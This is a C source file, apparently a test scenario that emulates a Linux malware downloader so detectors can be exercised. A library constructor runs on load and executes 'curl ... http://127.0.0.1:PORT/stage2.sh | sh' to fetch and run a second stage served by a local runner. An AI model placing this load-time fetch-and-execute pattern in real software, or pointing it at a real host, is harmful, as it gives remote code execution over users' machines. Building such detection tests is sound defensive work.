/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_downloader.so: a constructor that fetches and runs a second stage
 * the way most Linux malware does: `curl -fsS http://127.0.0.1:PORT/stage2.sh
 * | sh` through system(). The script is served by the runner.
 * ATT&CK: T1105 Ingress Tool Transfer, run by T1059.004 Unix Shell.
 * Proof: NAME.ran first; NAME.done is written by the downloaded script. */
#include "scn.h"

__attribute__((constructor)) static void downloader_init(void)
{
	char cmd[256];

	scn_mark("ran");
	snprintf(cmd, sizeof(cmd), "curl -fsS http://127.0.0.1:%d/stage2.sh | sh",
		 scn_port("SCENARIO_HTTP_PORT"));
	if (system(cmd))
		fprintf(stderr, "downloader: second stage failed\n");
}
